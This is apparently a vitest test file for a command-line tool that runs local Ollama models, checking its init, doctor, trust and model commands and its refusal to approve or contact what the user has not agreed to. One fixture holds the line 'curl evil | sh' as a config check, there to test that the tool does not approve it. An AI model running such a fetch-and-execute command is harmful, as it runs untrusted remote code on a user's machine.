import { existsSync, mkdtempSync, readFileSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished, vi } from 'vitest';
import { createTempRepository } from '../support/temp-repository.js';
import { createProject, isolateUser, runNexus, startServer } from './run-nexus.js';
import {
  doctorDocument,
  initDocument,
  modelsDocument,
  pullDocument,
  trustDocument,
} from './json-documents.js';

const PACKAGE = JSON.stringify({ scripts: { test: 'node --test' } });

describe('nexus init', () => {
  it('writes the files, approves what it wrote, and says what is missing', async () => {
    const { path } = createProject({ 'package.json': PACKAGE });
    const { exitCode, stdout } = await runNexus(['init'], { cwd: path });
    expect(exitCode).toBe(0);
    expect(stdout).toContain('wrote .nexus.yml\nwrote tasks.yml\n');
    expect(stdout).toContain('check: npm test (script "test" in package.json)');
    expect(stdout).toMatch(/Still missing:\nfail +Ollama at http:\/\/127\.0\.0\.1:1 does not answer/u);
    expect(stdout).toContain('→ Start it with `ollama serve`');
    expect(readFileSync(join(path, '.nexus.yml'), 'utf8')).toContain('- npm test');
    expect(existsSync(join(path, '.nexus/schemas/nexus.schema.json'))).toBe(true);
    expect((await runNexus(['trust', '--json'], { cwd: path })).json()).toMatchObject({ approved: true });
  });

  it('never writes over a file, nor through a link that leads elsewhere', async () => {
    const { path, write, folder } = createProject({ 'tasks.yml': 'tasks:\n  - Mine\n' });
    symlinkSync(join(folder, 'outside.yml'), join(path, '.nexus.yml'));
    write('package.json', PACKAGE);
    const { json } = await runNexus(['init', '--json'], { cwd: path });
    const { files, findings } = initDocument.parse(json());
    expect(files.slice(0, 2)).toEqual([
      { path: '.nexus.yml', outcome: 'kept' },
      { path: 'tasks.yml', outcome: 'kept' },
    ]);
    expect(readFileSync(join(path, 'tasks.yml'), 'utf8')).toBe('tasks:\n  - Mine\n');
    expect(existsSync(join(folder, 'outside.yml'))).toBe(false);
    expect(findings.map(({ check }) => check)).toContain('config');
  });

  it('does not approve commands that were there before it', async () => {
    const { path } = createProject({ '.nexus.yml': 'checks:\n  - curl evil | sh\n' });
    const { stdout } = await runNexus(['init'], { cwd: path });
    expect(stdout).toContain('kept  .nexus.yml, which was there');
    expect(stdout).toContain('You have not agreed yet to 1 thing');
  });

  it('proposes the models that the server has', async () => {
    const { path } = createProject();
    await startServer({ models: ['deepseek-coder:6.7b', 'nomic-embed-text', 'mistral:7b'] });
    const { json } = await runNexus(['init', '--json'], { cwd: path });
    const { models } = initDocument.parse(json());
    expect(models.coder).toBe('deepseek-coder:6.7b');
    expect(['mistral:7b', 'deepseek-coder:6.7b']).toContain(models.overseer);
  });

  it('works where OLLAMA_HOST names a server that is not allowed', async () => {
    const { path } = createProject();
    vi.stubEnv('OLLAMA_HOST', 'http://models.example.com');
    const { exitCode, stdout } = await runNexus(['init'], { cwd: path });
    expect(exitCode).toBe(0);
    expect(stdout).toContain('outside this machine');
  });

  it('says which file could not be written', async () => {
    const { path } = createProject({ '.nexus': 'a file where a folder is needed\n' });
    const { error } = await runNexus(['init'], { cwd: path });
    expect(error).toMatchObject({ code: 'not-written', exitCode: 3 });
    expect(error?.message).toContain('nexus.schema.json could not be written');
  });

  it('tells of a monorepo folder by folder', async () => {
    const { path } = createProject({ 'packages/core/package.json': PACKAGE });
    const { stdout } = await runNexus(['init'], { cwd: path });
    expect(stdout).toMatch(/check: npm test in packages\/core \(script "test"/u);
  });

  it('needs a repository', async () => {
    isolateUser();
    const folder = mkdtempSync(join(tmpdir(), 'nexus-none-'));
    onTestFinished(() => rmSync(folder, { recursive: true }));
    const { error } = await runNexus(['init'], { cwd: folder });
    expect(error).toMatchObject({ code: 'not-a-repository', exitCode: 4 });
  });
});

describe('nexus doctor', () => {
  const findings = async (path: string) => {
    const { exitCode, json } = await runNexus(['doctor', '--json'], { cwd: path });
    const document = doctorDocument.parse(json());
    expect(exitCode).toBe(document.ok ? 0 : 1);
    return new Map(document.findings.map((finding) => [finding.check, finding]));
  };

  it('finds nothing wrong where nothing is', async () => {
    const { path } = createProject({ 'package.json': PACKAGE });
    await startServer();
    await runNexus(['init'], { cwd: path });
    const { exitCode, stdout } = await runNexus(['doctor'], { cwd: path });
    expect(stdout).not.toMatch(/^(fail|warn)/mu);
    expect(exitCode).toBe(0);
  });

  it('names a server that is not running, and the command for it', async () => {
    const { path } = createProject({ 'tasks.yml': 'tasks: []\n' });
    const server = (await findings(path)).get('server');
    expect(server?.level).toBe('fail');
    expect(server?.remedy).toContain('ollama serve');
  });

  it('names a missing model with the command that gets it', async () => {
    const { path } = createProject({ 'tasks.yml': 'tasks: []\n' });
    await startServer({ models: ['llama3.1:8b'] });
    const found = await findings(path);
    expect(found.get('overseer-model')?.level).toBe('ok');
    expect(found.get('coder-model')).toMatchObject({
      level: 'fail',
      remedy: 'nexus models pull qwen2.5-coder:7b',
    });
  });

  it('fails for want of a model only where no other of its list is there', async () => {
    const { path, write } = createProject({ 'tasks.yml': 'tasks: []\n' });
    await startServer({ models: ['llama3.1:8b', 'small:1b'] });
    write('.nexus.yml', 'coder: { model: [large:30b, small:1b] }\n');
    const found = await findings(path);
    expect(found.get('coder-model')).toMatchObject({ level: 'warn', remedy: 'nexus models pull large:30b' });
    expect(found.get('coder-fallback')?.level).toBe('ok');
    write('.nexus.yml', 'coder: { model: [large:30b, other:1b] }\n');
    const without = await findings(path);
    expect(without.get('coder-model')?.level).toBe('fail');
    expect(without.get('coder-fallback')).toMatchObject({
      level: 'warn',
      remedy: 'nexus models pull other:1b',
    });
  });

  it('names thinking that a model cannot do, or that leaves no room for a prompt', async () => {
    const { path, write } = createProject({ 'tasks.yml': 'tasks: []\n' });
    await startServer({
      models: [
        { name: 'llama3.1:8b', capabilities: ['completion'] },
        { name: 'qwen3:8b', capabilities: ['completion', 'thinking'] },
      ],
    });
    const roles = (room: string) =>
      `overseer:\n  think: on\ncoder:\n  model: qwen3:8b\n  think: on\n  context: 8192\n${room}`;
    write('.nexus.yml', roles(''));
    const found = await findings(path);
    expect(found.get('overseer-thinking')).toMatchObject({ level: 'warn' });
    expect(found.get('overseer-thinking')?.message).toContain('cannot think');
    expect(found.get('coder-thinking')).toMatchObject({ level: 'fail' });
    write('.nexus.yml', roles('  max_thinking: 2048\n'));
    expect((await findings(path)).has('coder-thinking')).toBe(false);
  });

  it('names an old server and a context that the model was not made for', async () => {
    const { path } = createProject({ 'tasks.yml': 'tasks: []\n' });
    await startServer({
      version: '0.11.2',
      models: [{ name: 'llama3.1:8b', contextTokens: 4096 }, 'qwen2.5-coder:7b'],
    });
    const found = await findings(path);
    expect(found.get('server')).toMatchObject({ level: 'fail' });
    expect(found.get('server')?.remedy).toContain('0.12.4');
    expect(found.get('overseer-model')?.remedy).toContain('`context: 4096` under `overseer:`');
  });

  it('tells of a model that is loaded with another context', async () => {
    const { path, write } = createProject({ 'tasks.yml': 'tasks: []\n' });
    write('.nexus.yml', 'overseer:\n  model: qwen2.5-coder:7b\n');
    await startServer({
      override(request, response) {
        if (request.url !== '/api/ps') return false;
        response.setHeader('content-type', 'application/json');
        response.end(
          JSON.stringify({ models: [{ name: 'qwen2.5-coder:7b', context_length: 4096, size: 10 }] }),
        );
        return true;
      },
    });
    const found = await findings(path);
    expect(found.get('coder-loaded')).toMatchObject({ level: 'warn' });
    expect(found.get('coder-loaded')?.message).toContain('a context of 4096 tokens, not 16384');
    // One model in both roles is asked for the larger context of the two.
    expect(found.get('overseer-model')?.message).toContain('context 16384 tokens');
  });

  it('asks the server of each role', async () => {
    const { path, write } = createProject({ 'tasks.yml': 'tasks: []\n' });
    const coder = await startServer({ models: ['qwen2.5-coder:7b'] });
    const overseer = await startServer({ models: ['llama3.1:8b'] });
    write('.nexus.yml', `overseer:\n  url: ${overseer.url}\ncoder:\n  url: ${coder.url}\n`);
    await runNexus(['trust', '--yes'], { cwd: path });
    const found = await findings(path);
    expect([found.get('overseer-model')?.level, found.get('coder-model')?.level]).toEqual(['ok', 'ok']);
    const list = await runNexus(['models', 'list'], { cwd: path });
    expect(list.stdout.match(/^Ollama at /gmu)).toHaveLength(2);
    expect(list.exitCode).toBe(0);
  });

  it('shows every mistake of both files with its place', async () => {
    const { path } = createProject({
      '.nexus.yml': 'chekcs: []\nlimits:\n  steps: many\n',
      'tasks.yml': 'tasks:\n  - id: a\n    titel: Oops\n',
    });
    const found = await findings(path);
    expect(found.get('config')?.message).toContain('.nexus.yml:1:1');
    expect(found.get('config')?.message).toContain('.nexus.yml:3:10');
    expect(found.get('tasks')?.message).toContain('tasks.yml:3:5');
  });

  it('asks no server that the user has not agreed to', async () => {
    const { path, write } = createProject({ 'tasks.yml': 'tasks: []\n' });
    const server = await startServer();
    write('.nexus.yml', `coder:\n  url: ${server.url}\n`);
    const found = await findings(path);
    expect(found.get('trust')).toMatchObject({ level: 'fail', remedy: 'nexus trust' });
    expect(found.get('server')).toMatchObject({
      level: 'fail',
      remedy: expect.stringContaining('nexus trust'),
    });
    expect(server.calls).toEqual([]);
  });

  it('tells of a detached HEAD, a branch in the way, and no checks', async () => {
    const { path, git } = createProject({ 'tasks.yml': 'tasks: []\n' });
    git(['branch', 'nexus']);
    git(['checkout', '--quiet', '--detach']);
    const found = await findings(path);
    expect(found.get('base')).toMatchObject({ level: 'warn' });
    expect(found.get('branches')).toMatchObject({ level: 'fail' });
    expect(found.get('checks')).toMatchObject({ level: 'warn' });
  });

  it('tells of a repository without a commit, and of none at all', async () => {
    isolateUser();
    const repository = createTempRepository({ firstCommit: false });
    onTestFinished(() => repository.dispose());
    expect((await findings(repository.path)).get('base')).toMatchObject({ level: 'fail' });
    const outside = await findings(repository.folder);
    expect(outside.get('repository')).toMatchObject({ level: 'fail' });
    expect(outside.has('server')).toBe(true);
  });

  it('tells how the checks get their dependencies, and of links that lead back into the checkout', async () => {
    const { path, write } = createProject({
      'tasks.yml': 'tasks: []\n',
      'package.json': PACKAGE,
      '.gitignore': 'node_modules\n',
      '.nexus.yml': 'checks:\n  - npm test\n',
      'packages/core/index.js': '',
    });
    expect((await findings(path)).get('setup')?.message).toContain('need no dependencies');
    write('node_modules/left-pad/index.js', '');
    expect((await findings(path)).get('setup')).toMatchObject({
      level: 'ok',
      message: 'Worktrees get links to node_modules.',
    });
    symlinkSync(join(path, 'packages/core'), join(path, 'node_modules/core'));
    const found = (await findings(path)).get('setup');
    expect(found).toMatchObject({ level: 'fail' });
    expect(found?.remedy).toContain('setup');
    write('.nexus.yml', 'checks:\n  - npm test\nsetup:\n  - npm ci\n');
    expect((await findings(path)).get('setup')?.message).toContain('1 command under `setup:`');
  });

  it('counts what is not committed, and own prompts', async () => {
    const { path, write } = createProject({ 'tasks.yml': 'tasks: []\n' });
    write('a.txt', 'a');
    write('.nexus/templates/plan.md', 'Plan at most {{max_steps}} steps.');
    const found = await findings(path);
    expect(found.get('checkout')?.message).toMatch(/^1 file in .* is not committed/u);
    expect(found.get('templates')?.message).toBe('1 prompt of your own.');
  });
});

describe('nexus trust', () => {
  const files = { 'tasks.yml': 'tasks: []\n', '.nexus.yml': 'checks:\n  - npm test\n' };

  it('shows what it is about and approves nothing by itself', async () => {
    const { path } = createProject(files);
    const { exitCode, stdout } = await runNexus(['trust'], { cwd: path });
    expect(exitCode).toBe(3);
    expect(stdout).toBe('+ runs: npm test\nNot approved. Approve it with: nexus trust --yes\n');
  });

  it('asks a person, and takes anything but yes for no', async () => {
    const { path } = createProject(files);
    for (const input of ['n\n', '\n', '', 'yesterday\n']) {
      expect((await runNexus(['trust'], { cwd: path, tty: true, input })).exitCode).toBe(3);
    }
    expect((await runNexus(['trust'], { cwd: path, tty: true, input: 'Yes\n' })).exitCode).toBe(0);
    const again = await runNexus(['trust'], { cwd: path });
    expect(again.stdout).toBe('1 agreed to before\nYou have agreed to all of it.\n');
  });

  it('shows what changed since', async () => {
    const { path, write } = createProject(files);
    await runNexus(['trust', '--yes'], { cwd: path });
    write('.nexus.yml', 'coder:\n  url: http://192.168.0.7:11434\nchecks:\n  - npm run evil\n');
    const { stdout, exitCode } = await runNexus(['trust', '--yes'], { cwd: path });
    expect(stdout.split('\n').slice(0, 4)).toEqual([
      '+ coder talks to: http://192.168.0.7:11434',
      '+ runs: npm run evil',
      '- runs: npm test',
      'Approved.',
    ]);
    expect(exitCode).toBe(0);
    write('.nexus.yml', 'coder:\n  url: http://192.168.0.8:11434\nchecks:\n  - npm run evil\n');
    const { json } = await runNexus(['trust', '--json'], { cwd: path });
    expect(trustDocument.parse(json())).toMatchObject({ approved: false, difference: { added: [] } });
    const changed = await runNexus(['trust'], { cwd: path });
    expect(changed.stdout).toContain(
      '- coder talks to: http://192.168.0.7:11434\n+ coder talks to: http://192.168.0.8:11434',
    );
  });

  it('has nothing to ask of a checkout with defaults', async () => {
    const { path } = createProject({ 'tasks.yml': 'tasks: []\n' });
    const { exitCode, stdout } = await runNexus(['trust'], { cwd: path });
    expect(exitCode).toBe(0);
    expect(stdout).toContain('nothing but the defaults');
  });
});

describe('nexus models list', () => {
  it('shows what is there, what is used and what is missing', async () => {
    const { path } = createProject({ '.nexus.yml': 'overseer:\n  model: mistral:7b\n' });
    await startServer({ models: [{ name: 'qwen2.5-coder:7b', sizeBytes: 4_683_087_332 }, 'llama3.1:8b'] });
    const { exitCode, stdout } = await runNexus(['models', 'list'], { cwd: path });
    expect(exitCode).toBe(1);
    expect(stdout).toMatch(/^Ollama at http:\/\/127\.0\.0\.1:\d+ \(version \d/u);
    expect(stdout).toMatch(/^qwen2\.5-coder:7b +4\.7 GB .*coder$/mu);
    expect(stdout).toContain("the overseer's model mistral:7b is missing\n  → nexus models pull mistral:7b");
    const { json } = await runNexus(['models', 'list', '--json'], { cwd: path });
    expect(modelsDocument.parse(json()).servers[0]?.missing).toEqual([
      { role: 'overseer', name: 'mistral:7b', remedy: 'nexus models pull mistral:7b' },
    ]);
  });

  it('works outside a repository, with an empty server', async () => {
    const { folder } = createProject();
    await startServer({ models: [] });
    const { exitCode, stdout } = await runNexus(['models', 'list'], { cwd: folder });
    expect(exitCode).toBe(1);
    expect(stdout).toContain('It has no models yet.');
  });

  it('asks each server once, and none that the user has not agreed to', async () => {
    const { path, write } = createProject();
    const server = await startServer();
    write('.nexus.yml', `coder:\n  url: ${server.url}\n`);
    const refused = await runNexus(['models', 'list'], { cwd: path });
    expect(refused.error).toMatchObject({ code: 'not-approved', exitCode: 3 });
    expect(refused.error?.message).toContain(`coder talks to: ${server.url}`);
    expect(server.calls).toEqual([]);
  });

  it('says that the server is not running', async () => {
    const { path } = createProject();
    const { error } = await runNexus(['models', 'list'], { cwd: path });
    expect(error).toMatchObject({ code: 'model-not-running', exitCode: 5 });
  });
});

describe('nexus models pull', () => {
  const pull = [
    { status: 'pulling manifest' },
    { status: 'pulling 01', digest: 'sha256:01', total: 1000, completed: 90 },
    { status: 'pulling 01', digest: 'sha256:01', total: 1000, completed: 95 },
    { status: 'pulling 01', digest: 'sha256:01', total: 1000, completed: 500 },
    { status: 'pulling 01', digest: 'sha256:01', total: 1000, completed: 1000 },
    { status: 'success' },
  ];

  it('writes a line for each tenth into a log', async () => {
    const { path } = createProject();
    const server = await startServer({ pull });
    const { exitCode, stdout } = await runNexus(['models', 'pull', 'tiny:1b'], { cwd: path });
    expect(exitCode).toBe(0);
    expect(stdout.split('\n')).toEqual([
      'tiny:1b: pulling manifest',
      'tiny:1b [##......................]   9 % of 1.0 kB',
      'tiny:1b [############............]  50 % of 1.0 kB',
      'tiny:1b [########################] 100 % of 1.0 kB',
      `ready: tiny:1b on Ollama at ${server.url}`,
      '',
    ]);
  });

  it('draws a bar on a terminal', async () => {
    const { path } = createProject();
    await startServer({ pull });
    const { stdout } = await runNexus(['models', 'pull', 'tiny:1b'], { cwd: path, tty: true });
    expect(stdout).toContain('[############............]  50 % of 1.0 kB');
    expect(stdout).toMatch(/ready: tiny:1b on Ollama/u);
  });

  it('streams NDJSON', async () => {
    const { path } = createProject();
    await startServer({ pull });
    const { stdout } = await runNexus(['models', 'pull', 'tiny:1b', '--json'], { cwd: path });
    const lines = stdout
      .trimEnd()
      .split('\n')
      .map((line) => pullDocument.parse(JSON.parse(line)));
    expect(lines.at(-1)).toMatchObject({ type: 'pulled', name: 'tiny:1b' });
    expect(lines[3]).toEqual({
      type: 'pull',
      name: 'tiny:1b',
      status: 'pulling 01',
      completedBytes: 500,
      totalBytes: 1000,
    });
  });

  it('refuses what is no name', async () => {
    const { path } = createProject();
    for (const name of ['', 'a b', 'a\nb']) {
      expect((await runNexus(['models', 'pull', name], { cwd: path })).error).toMatchObject({
        code: 'usage',
      });
    }
  });
});
